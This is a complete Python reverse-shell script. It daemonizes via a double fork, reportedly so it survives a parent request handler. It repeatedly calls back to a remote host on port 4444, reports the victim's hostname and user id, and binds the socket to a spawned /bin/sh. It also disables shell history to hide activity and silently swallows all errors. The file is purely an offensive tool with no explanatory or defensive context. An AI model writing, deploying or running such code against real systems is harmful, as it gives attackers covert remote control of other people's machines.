#!/usr/bin/env python3
# -*- coding: utf-8 -*-
import os
import pty
import socket
import sys
import time

RHOST = "203.0.113.77"
RPORT = 4444
RETRIES = 30


def daemonize():
    # double fork so the shell survives the parent request handler
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)
    os.chdir("/")
    os.umask(0)


def connect():
    for _ in range(RETRIES):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(10)
            s.connect((RHOST, RPORT))
            s.settimeout(None)
            return s
        except Exception:
            time.sleep(20)
    return None


def main():
    daemonize()
    s = connect()
    if s is None:
        return
    s.send(("[+] " + socket.gethostname() + " uid=" + str(os.getuid()) + "\n").encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.environ["HISTFILE"] = "/dev/null"
    os.environ["TERM"] = "xterm"
    pty.spawn("/bin/sh")
    s.close()


if __name__ == "__main__":
    try:
        main()
    except Exception:
        pass
